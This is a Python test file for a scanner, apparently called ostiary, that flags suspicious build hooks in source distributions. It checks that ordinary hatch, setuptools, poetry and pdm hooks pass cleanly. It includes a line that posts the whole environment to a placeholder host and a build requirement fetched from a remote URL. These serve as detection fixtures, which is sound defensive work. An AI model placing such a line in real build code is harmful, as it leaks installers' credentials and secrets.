"""What ordinary projects do while they are built needs no look, beside the harm that would."""

import pytest
from weighed import BY_ID

from ostiary.core.finding import Hit
from ostiary.core.scale import Severity
from ostiary.evidence.artifact import examine_members
from ostiary.formats.archive.member import Member

INFO = "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\nLicense: MIT\n"
SYSTEM = "[build-system]\nrequires = [{}]\nbuild-backend = '{}'\n[project]\nname = 'sample'\n"
HATCH = SYSTEM.format("'hatchling'", "hatchling.build") + "[tool.hatch.build.hooks.custom]\n"
SETUPTOOLS = SYSTEM.format("'setuptools'", "setuptools.build_meta")
POETRY = SYSTEM.format("'poetry-core', 'cython'", "poetry.core.masonry.api")
HEAD = """
import shutil, subprocess, sys
from pathlib import Path
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class Built(BuildHookInterface):
    def initialize(self, version, build_data):
"""
GENERATED = """
        from grpc_tools import protoc
        for one in Path(self.root, 'protos').glob('*.proto'):
            protoc.main(['protoc', '-Iprotos', '--python_out=sample', str(one)])
            build_data['artifacts'].append(f'sample/{one.stem}_pb2.py')
"""
COPIED = """
        shutil.copytree(Path(self.root, 'web'), Path(self.root, 'sample', 'static'), dirs_exist_ok=True)
        Path(self.root, 'sample', '_version.py').write_text(f'__version__ = {self.metadata.version!r}')
        build_data['force_include'][str(Path(self.root, 'web'))] = 'sample/static'
    def clean(self, versions):
        shutil.rmtree(Path(self.root, 'sample', 'static'), ignore_errors=True)
"""
CYTHON = """
from Cython.Build import cythonize
from setuptools import Distribution, Extension
from setuptools.command.build_ext import build_ext
import os, shutil
def build(setup_kwargs=None):
    found = cythonize([Extension('sample.fast', ['sample/fast.pyx'], extra_compile_args=['-O3'])])
    command = build_ext(Distribution({'name': 'sample', 'ext_modules': found}))
    command.ensure_finalized()
    command.run()
    for one in command.get_outputs():
        shutil.copyfile(one, os.path.relpath(one, command.build_lib))
if __name__ == '__main__':
    build()
"""
PDM = "def pdm_build_initialize(context):\n    context.config.metadata['version'] = '1.0'\n"
SCM = (
    "import subprocess\ndef get(version):\n    return version.format_with('{tag}.dev{distance}')\n"
)

PAGES = """
        if self.target_name == 'sdist':
            subprocess.check_call(['yarn', 'install'], cwd='web')
            subprocess.check_call(['yarn', 'build'], cwd='web')
"""

HONEST = {
    "pages that are built once, for the sdist": {
        "pyproject.toml": HATCH,
        "hatch_build.py": HEAD + PAGES,
    },
    "code that is generated": {"pyproject.toml": HATCH, "hatch_build.py": HEAD + GENERATED},
    "files that are copied": {"pyproject.toml": HATCH, "hatch_build.py": HEAD + COPIED},
    "a version that is written down": {
        "pyproject.toml": SETUPTOOLS
        + "dynamic = ['version']\n[tool.setuptools.dynamic]\nversion = {attr = 'sample.__version__'}\n",
        "sample/__init__.py": "__version__ = '1.0'\nimport requests\n",
    },
    "one that is worked out": {
        "setup.cfg": "[metadata]\nname = sample\nversion = attr: sample.__version__\n",
        "sample/__init__.py": "from .v import VERSION\n__version__ = '.'.join(map(str, VERSION))\n",
        "sample/v.py": "VERSION = (1, 0)\n",
    },
    "one out of the tags": {"pyproject.toml": SETUPTOOLS + "[tool.setuptools_scm]\n"},
    "one out of the tags in a form of its own": {
        "pyproject.toml": SETUPTOOLS + "[tool.setuptools_scm]\nversion_scheme = 'tools.v:get'\n",
        "tools/v.py": SCM,
    },
    "an extension": {
        "pyproject.toml": POETRY + "[tool.poetry.build]\nscript = 'build.py'\n",
        "build.py": CYTHON,
    },
    "a hook of pdm": {
        "pyproject.toml": SYSTEM.format("'pdm-backend'", "pdm.backend"),
        "pdm_build.py": PDM,
    },
}
SENDS = "import os, requests; requests.post('https://a.example.invalid/', json=dict(os.environ))\n"


def hits(files: dict[str, str]) -> list[Hit]:
    """What all checks say of a source distribution that needs more than a glance."""
    whole = {"PKG-INFO": INFO, "LICENSE": "MIT License\n", "sample/__init__.py": "", **files}
    members = [
        Member(f"sample-1.0/{path}", text.encode(), False, 0) for path, text in whole.items()
    ]
    facts = examine_members(members, "sample-1.0.tar.gz", "0" * 64, 1).facts
    return [
        hit
        for check in BY_ID.values()
        for fact in facts
        if isinstance(fact, check.reads)
        for hit in check.run(fact)
        if isinstance(hit, Hit) and (hit.severity or check.severity) > Severity.LOW
    ]


@pytest.mark.parametrize("what", HONEST)
def test_what_ordinary_projects_build_with(what: str) -> None:
    assert hits(HONEST[what]) == []


@pytest.mark.parametrize(
    "what", [one for one in HONEST if "written" not in one and one[-4:] != "tags"]
)
def test_the_same_that_sends_the_environment(what: str) -> None:
    files = dict(HONEST[what])
    path = next(one for one in files if one.endswith(".py"))
    worst = max(one.severity or Severity.INFO for one in hits({**files, path: files[path] + SENDS}))
    assert worst is Severity.CRITICAL


@pytest.mark.parametrize(
    "sets", ["self.target_name = 'sdist'", "setattr(self, 'target' + '_name', 'sdist')"]
)
def test_pages_that_are_built_whenever_it_is_installed(sets: str) -> None:
    always = HEAD + PAGES.replace("if self.target_name == 'sdist':", "if self.app:")
    assert [one.severity for one in hits({"pyproject.toml": HATCH, "hatch_build.py": always})] == [
        Severity.MEDIUM
    ]
    says = HEAD + f"        {sets}" + PAGES
    assert len(hits({"pyproject.toml": HATCH, "hatch_build.py": says})) == 1


URL = "fast-parts @ https://a.example.invalid/fast_parts-1.0-py3-none-any.whl"
ASKS = "def get_requires_for_build_wheel(config_settings=None):\n    return ['{}']\n"


def test_a_back_end_that_asks_for_something_from_a_place() -> None:
    table = SYSTEM.format("", "own").replace("[project]", "backend-path = ['tools']\n[project]")
    told = {"pyproject.toml": table, "tools/own.py": ASKS.format(URL)}
    assert [one.severity for one in hits(told)] == [Severity.MEDIUM]
    assert hits({**told, "tools/own.py": ASKS.format("cython>=3")}) == []
    hook = f"{HEAD}        pass\n    def dependencies(self):\n        return ['{URL}']\n"
    assert len(hits({"pyproject.toml": HATCH, "hatch_build.py": hook})) == 1
